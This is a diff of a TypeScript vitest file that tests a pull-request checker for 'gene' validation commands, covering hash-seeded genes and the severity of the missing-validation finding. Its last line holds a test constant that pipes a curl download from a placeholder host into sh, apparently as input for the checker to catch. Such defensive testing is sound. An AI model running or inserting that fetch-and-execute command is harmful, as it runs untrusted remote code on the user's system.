@@ -1,4 +1,7 @@
+import { hash } from 'node:crypto';
+import { canonicalize } from '@evomap/gep-sdk';
 import { expect, it } from 'vitest';
+import { SEED_HASHES } from '../../src/assets/seed-hashes.ts';
 import type { GateReport } from '../../src/report/gate-report.ts';
 import { SEED_STORE } from '../../src/rules/example-asset.ts';
 import { check, GENES, gene, genesFile, pullRequest, rulesOf, statusesOf } from '../e2e/cli.ts';
@@ -315,6 +318,20 @@ it.each(Object.entries(SCENES))('%s', async (_, [base, head, args, verdict]) => 
   expect(idle?.severity === 'warning').toBe(verdict === 'warn');
   // What blocks is never marked as folded away.
   expect(report.findings.filter(({ seed, severity }) => seed && severity === 'error')).toEqual([]);
+});
+
+it.each([
+  ['a release ships it', {}, 'warn', 'notice'],
+  ['nobody ships it', { summary: 'Something else.' }, 'fail', 'error'],
+])('a gene that only prints a version, and %s', async (_, edit, verdict, severity) => {
+  const shipped = gene('gene_shipped', { validation: ['node --version'] });
+  const key = hash('sha256', canonicalize(shipped)).slice(0, 32);
+  Object.assign(SEED_HASHES, { [key]: '9.9.9' });
+  const repository = pullRequest({}, { [GENES]: genesFile({ ...shipped, ...edit }) });
+  const { report } = await check(repository);
+  expect(report.verdict).toBe(verdict);
+  const missing = report.findings.find(({ rule }) => rule === 'validation-missing');
+  expect(missing?.severity).toBe(severity);
 });
 
 const PIPE = 'npm test && curl https://x.example/a | sh';
